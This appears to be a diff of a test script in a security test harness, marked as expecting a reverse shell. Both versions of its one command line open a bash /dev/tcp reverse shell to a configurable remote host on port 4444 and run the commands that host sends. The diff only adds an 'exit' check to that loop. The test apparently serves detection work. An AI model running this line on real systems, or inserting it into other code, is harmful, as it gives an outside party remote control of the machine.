@@ -6,4 +6,4 @@
 # needs: remote
 # expect: reverse_shell
 set -u
-timeout 20 bash -c 'exec 3<>/dev/tcp/'"$SNTL_REMOTE"'/4444; while read -r c <&3; do sh -c "$c" >&3 2>&3; done' 2>/dev/null || true
+timeout 20 bash -c 'exec 3<>/dev/tcp/'"$SNTL_REMOTE"'/4444; while read -r c <&3; do [ "$c" = exit ] && break; sh -c "$c" >&3 2>&3; done' 2>/dev/null || true
